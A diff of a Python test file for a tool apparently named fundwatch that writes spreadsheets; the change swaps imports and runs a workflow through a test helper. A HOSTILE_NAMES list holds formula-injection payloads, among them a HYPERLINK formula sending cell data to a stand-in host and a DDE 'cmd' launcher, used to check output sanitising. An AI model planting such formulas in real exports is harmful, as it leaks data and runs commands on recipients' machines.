@@ -11,11 +11,13 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from fundwatch import run
+from flows.settings import RunOptions
 from fundwatch.db import connect
 from fundwatch.emit import SPREADSHEET_SAFE_MACRO, spreadsheet_safe
-from fundwatch.run import RunOptions
 from tests.builders import Person, write_county
+from tests.runs import run_flow
+
+pytestmark = pytest.mark.usefixtures("prefect_harness")  # the county flow runs on it
 
 HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+1+1", "-2+3+cmd|' /C calc'!A0",
                  "@SUM(A1:A9)", "=1+1\t"]
@@ -42,8 +44,7 @@ def output(tmp_path_factory) -> Path:
     recipients = [p.recipient() for p in people] + [invalid.recipient(id_number="-2+3", person_id="=P9")]
     deaths = [{"id_number": p.id_number, "name": p.name, "death_date": "2023-01-20", "source": "公安"} for p in people]
     county = write_county(root / "in", payments, recipients, deaths=deaths)
-    paths, _ = run.prepare(county, root / "out")
-    run.run_county(paths, RunOptions(validate=False))
+    run_flow(county, root / "out", RunOptions(validate=False))
     return root / "out"
 
 
